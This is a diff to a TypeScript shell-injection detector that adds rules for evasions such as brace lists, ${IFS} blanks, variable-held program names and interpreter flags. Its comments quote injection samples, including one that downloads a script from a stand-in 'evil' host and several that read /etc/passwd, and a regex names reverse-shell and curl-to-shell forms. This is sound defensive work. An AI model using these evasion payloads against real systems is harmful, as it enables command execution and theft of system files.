@@ -75,8 +75,11 @@ function commandAt(v: string, i: number, weak: boolean, listedOnly = false): boo
     const from = j
     // (a variable's name is letters, digits and `_`: PHP's `$this->run()` is an object's method)
     while (j < v.length && isNameChar(v.charCodeAt(j))) j++
+    const name = v.slice(from, j)
     if (v.charCodeAt(j) === 125) j++
     if (j > from && commandEnds(v, j)) return true
+    // (nineteenth round) a variable set to a program's name before (`x=cat;$x /etc/passwd`): the program runs
+    if (j > from && isBlank(v.charCodeAt(j)) && assignedProgram(v, name, i)) return true
   }
   // a program by its path: /bin/cat  /usr/bin/id  c:\windows\system32\cmd.exe  ./x.sh
   const c = v.charCodeAt(i)
@@ -109,12 +112,39 @@ function commandAt(v: string, i: number, weak: boolean, listedOnly = false): boo
       const m = (word === 'echo' ? MARKER : HOST_ARGUMENT).exec(v.slice(k, k + 200))
       if (m !== null && commandEnds(v, k + m[0].length)) return true
     }
+    // (nineteenth round) a program no sentence has, alone at the end after a pipe or an ampersand between words: `localhost | whoami`
+    if (weak && ends && ALONE.has(word)) return true
     if (ENGLISH.has(word) || weak) return hasArgument || (ends && !weak)
     // a listed command: on its own, or with anything that is not a sentence going on
     return ends || hasArgument || (k > j && /^[^\s;|&`)]{1,200}(?:\s|$|[;|&`)])/.test(v.slice(k, k + 202)) && !weak)
   }
   // an unknown program: options or paths after it, from a strong separator only
   return !weak && !listedOnly && hasArgument && /^[a-z][\w.-]*$/.test(word) && (v.charCodeAt(k) === 45 || v.charCodeAt(k) === 47)
+}
+
+/** Whether `name` was set to a listed program before `before` (`x=cat;`, `a=whoami&&`). */
+function assignedProgram(v: string, name: string, before: number): boolean {
+  if (name.length === 0 || name.length > 20) return false
+  let at = v.lastIndexOf(`${name}=`, before)
+  for (let n = 0; at !== -1 && n < 4; n++, at = v.lastIndexOf(`${name}=`, at - 1)) {
+    if (at > 0 && isNameChar(v.charCodeAt(at - 1))) continue
+    let k = at + name.length + 1
+    const q = v.charCodeAt(k)
+    if (q === 39 || q === 34) k++
+    let e = k
+    while (e < v.length && isWordChar(v.charCodeAt(e))) e++
+    if (e > k && COMMANDS.has(v.slice(k, e))) return true
+    if (at === 0) break
+  }
+  return false
+}
+
+/** (nineteenth round) A brace list where a command starts, its first word a program: bash runs `{wget,http://evil/x.sh}`, `;{ls,}`. */
+export function braceProgram(v: string): boolean {
+  if (!v.includes('{') || !v.includes(',')) return false
+  BRACE_PROGRAM.lastIndex = 0
+  for (let m = BRACE_PROGRAM.exec(v), n = 0; m !== null && n < 8; m = BRACE_PROGRAM.exec(v), n++) if (COMMANDS.has(m[1]!)) return true
+  return false
 }
 
 const NETWORK_PROBES = new Set(['ping', 'nslookup', 'host', 'dig'])
@@ -197,6 +227,11 @@ export function shellInjection(v: string): boolean {
   if ((v.includes('\u2013') || v.includes('\u2014')) && injectionAt(v.replace(TYPOGRAPHIC_OPTION, ' -')) !== -1) return true
   // a chain that starts by changing to a directory by its path, then runs anything: cd /;cd etc;comm passwd passwd
   if (v.includes('cd') && CD_CHAIN.test(v)) return true
+  if (braceProgram(v)) return true
+  // (nineteenth round) the shell's field separator written for a blank (`${IFS}ls${IFS}-la`): the words it parts include a program
+  if (v.includes('ifs') && IFS_BLANK.test(v)) {
+    for (const word of v.replace(IFS_BLANKS, ' ').split(WORD_BREAKS, 16)) if (word.length > 1 && COMMANDS.has(word) && !ENGLISH.has(word)) return true
+  }
   if (v.includes("'") && !assignedQuote(v, "'") && !nestedInAssigned(v, "'", '"') && injectionAt(`'${v}`) !== -1) return true
   if (v.includes('"') && !assignedQuote(v, '"') && !nestedInAssigned(v, '"', "'") && injectionAt(`"${v}`) !== -1) return true
   const folded = fold(v)
@@ -219,6 +254,11 @@ export function shellInjection(v: string): boolean {
 }
 
 const TYPOGRAPHIC_OPTION = /[ \t][\u2013\u2014](?=[a-z])/g
+/** (its second word an option, a path, a URL or nothing: `{cat,dog}` is a pair of words) */
+const BRACE_PROGRAM = /(?:^|[;|&`\n(]\s{0,4})\{([a-z][\w.-]{1,20}),(?=[-/~.$}]|[a-z]{2,8}:\/\/)[^{}\s]{0,100}\}/g
+const IFS_BLANK = /\$\{ifs\}|\$ifs\b/
+const IFS_BLANKS = /\$\{ifs\}|\$ifs\b(?:\$9)?/g
+const WORD_BREAKS = /[^a-z0-9_.-]+/
 const ESCAPE_INTRODUCERS = /\\(?:033|x1b)\[[0-9;]{0,8}/g
 /** A `+` beside a separator, as form encoding leaves one: `+|+`  `%0a+dir`  `&&+` */
 const PLUS_BLANK = /[;|&\n`]\+|\+[;|&`]|\\n\+/
@@ -243,7 +283,7 @@ export const fold = (v: string) =>
  * A brace list where a command starts is the command's words to bash (`{cat,/etc/passwd}` runs
  * `cat /etc/passwd`, `$({uname,-a})`): at the value's start or after a separator or a substitution's opening.
  */
-const BRACE_LIST = /(^|[;|&`\n(]\s{0,4})\{([\w./-]{1,30}(?:,[\w./-]{1,60}){1,8})\}/g
+const BRACE_LIST = /(^|[;|&`\n(]\s{0,4})\{([\w./-]{1,30}(?:,[\w./:-]{0,60}){1,8})\}/g
 const expandBraces = (v: string) => (v.includes('{') && v.includes(',') ? v.replace(BRACE_LIST, (_m, before: string, list: string) => before + list.replaceAll(',', ' ')) : v)
 
 /** Letters quoted inside a word are the word to the shell: c'a't  wh"o"ami  'who'ami */
@@ -338,8 +378,12 @@ const SHELL_TOKEN = /^(?:-{1,2}[\w=.,:/+-]*|\/[^\s]*|[a-z]:[\\/][^\s]*|%\w+%[^\s
  */
 export function bareCommand(v: string): boolean {
   const trimmed = v.trim()
-  const line = trimmed.charCodeAt(0) === 47 ? trimmed.replace(TRAILING_SEPARATOR, '') : trimmed
+  let line = trimmed.charCodeAt(0) === 47 ? trimmed.replace(TRAILING_SEPARATOR, '') : trimmed
   if (line.length === 0 || line.length > 200 || line.includes('\n')) return false
+  // (nineteenth round) a comment or a NUL closing the line (`cat /etc/passwd #`, `… %00`), and a reader's input redirected
+  // glued to it (`cat</etc/passwd`, `cat<>/etc/passwd`): the same command line
+  if (line.includes('#') || line.includes('\0') || line.includes('%00')) line = line.replace(TRAILING_COMMENT, '')
+  if (line.includes('<')) line = line.replace(GLUED_INPUT, '$1 ')
   let end = 0
   while (end < line.length && !isBlank(line.charCodeAt(end))) end++
   let first = line.slice(0, end)
@@ -354,6 +398,10 @@ export function bareCommand(v: string): boolean {
     // (a reader given a file reads the system's only: `/bin/cat notes.txt` is no probe)
     if (COMMANDS.has(first) && !RECON.has(first) && !WRAPPERS.has(first) && !(READERS.has(first) && !ONLY_OPTIONS.test(line.slice(end)))) return pathCommand(first, line.slice(end))
   }
+  // (nineteenth round) an interpreter given its option to run a command line runs whatever follows it: `cmd /c net user`,
+  // `powershell.exe -command "Get-Process"`, `%COMSPEC% /c dir`, `node -e '…'`
+  const interpreter = INTERPRETERS.has(first) ? first : first.endsWith('.exe') && INTERPRETERS.has(first.slice(0, -4)) ? first.slice(0, -4) : first === '%comspec%' ? 'cmd' : ''
+  if (interpreter !== '' && RUNS_NEXT[interpreter]!.test(line.slice(end))) return true
   if (WRAPPERS.has(first)) {
     const next = afterWrapper(line, end + 1)
     return next !== -1 && (wrappedCommand(line, next) || bareCommand(line.slice(next)))
@@ -363,6 +411,17 @@ export function bareCommand(v: string): boolean {
   return bareArguments(first + line.slice(end))
 }
 const CMD_VARIABLE = /^[%!]{1,2}([a-z]{2,12})[%!]{0,2}$/
+const TRAILING_COMMENT = /[ \t]{1,4}#[^\n]{0,100}$|[ \t]{0,4}(?:%00|\0)$/
+const GLUED_INPUT = /^([a-z]{2,8})<>?(?=\/)/
+/** Interpreters, and the options after which the rest of the line is the program they run (with at least one word of it). */
+const RUNS_NEXT: Record<string, RegExp> = {
+  cmd: /^[ \t]{1,4}\/[ck][ \t]{1,4}\S/,
+  powershell: /^(?:[ \t]{1,4}-(?:nop|noprofile|noni|noninteractive|w|windowstyle[ \t]{1,4}\w{1,12}|ep[ \t]{1,4}\w{1,12}|executionpolicy[ \t]{1,4}\w{1,12}|sta)){0,4}[ \t]{1,4}-(?:c|command|e|enc|encodedcommand)[ \t]{1,4}\S/,
+  node: /^[ \t]{1,4}-(?:e|p|-eval|-print)[ \t]{1,4}['"]/,
+  lua: /^[ \t]{1,4}-e[ \t]{1,4}['"]/,
+}
+RUNS_NEXT.pwsh = RUNS_NEXT.powershell!
+const INTERPRETERS = new Set(Object.keys(RUNS_NEXT))
 /** A separator closing a command line given alone (`/usr/bin/id;`, `/bin/ls -al |`). */
 const TRAILING_SEPARATOR = /[ \t]{0,4}(?:;|\|{1,2}|&{1,2})$/
 const ONLY_OPTIONS = /^(?:[ \t]{1,4}-{1,2}[a-z]{1,20}){0,6}[ \t]{0,4}$/
@@ -688,4 +747,4 @@ const PROGRAM_LINE = /^[ \t]{0,40}(?:\[\[[ \t][^\n]{0,280}[ \t]\]\][ \t]{0,4}(?:
 // (seventeenth round) a timing oracle: a test whose two branches only sleep, for different times (`then sleep 0; else sleep 5`)
 export const PROGRAM_ATTACK = /\bthen[ \t]{1,4}sleep[ \t]{1,4}\d{1,3}[ \t]{0,4}[;\n][ \t]{0,8}else[ \t]{1,4}sleep[ \t]{1,4}\d{1,3}\b|\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)[ \t][^\n]{0,100}?[ \t]-[a-z]{0,3}[ec]\b|\bmkfifo\b[^\n]{0,100}?\b(?:nc|ncat|netcat|telnet)\b|\bsocat\b[^\n]{0,100}?\bexec:|\b(?:curl|wget|fetch)\b[^\n|]{0,300}\|[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:ba|z|da|k|c|tc|fi)?sh\b/
 /** The shell judge's patterns, for the ReDoS checks. */
-export const SHELL_PATTERNS: readonly RegExp[] = [HOST_NAME, APPENDED, APPENDED_SUBSTITUTION, SENTENCE, TRAILING_SEPARATOR, ONLY_OPTIONS, CD_CHAIN, ACCESSOR, NO_OPS, QUOTE_SPLIT, SEPARATOR, GLOB_PATH, GLOB_CHAR, STAR_SEGMENT, CMD_VARIABLE, PROGRAM_PATH, BLOCK_PARAMETERS, BATCH, BATCH_CODE, MAIL_COMMAND, PROGRAM_LINE, PROGRAM_CONTROL, PROGRAM_ATTACK, SHEBANG, INDENTED, CLOSING, MARKER, EMPTY_ECHO, HOST_ARGUMENT, TYPOGRAPHIC_OPTION, ESCAPE_INTRODUCERS, PLUS_BLANK, PLUSES, BRACE_LIST, SHELL_TOKEN, READS_SYSTEM]
+export const SHELL_PATTERNS: readonly RegExp[] = [TRAILING_COMMENT, GLUED_INPUT, ...Object.values(RUNS_NEXT), BRACE_PROGRAM, IFS_BLANK, IFS_BLANKS, WORD_BREAKS, HOST_NAME, APPENDED, APPENDED_SUBSTITUTION, SENTENCE, TRAILING_SEPARATOR, ONLY_OPTIONS, CD_CHAIN, ACCESSOR, NO_OPS, QUOTE_SPLIT, SEPARATOR, GLOB_PATH, GLOB_CHAR, STAR_SEGMENT, CMD_VARIABLE, PROGRAM_PATH, BLOCK_PARAMETERS, BATCH, BATCH_CODE, MAIL_COMMAND, PROGRAM_LINE, PROGRAM_CONTROL, PROGRAM_ATTACK, SHEBANG, INDENTED, CLOSING, MARKER, EMPTY_ECHO, HOST_ARGUMENT, TYPOGRAPHIC_OPTION, ESCAPE_INTRODUCERS, PLUS_BLANK, PLUSES, BRACE_LIST, SHELL_TOKEN, READS_SYSTEM]
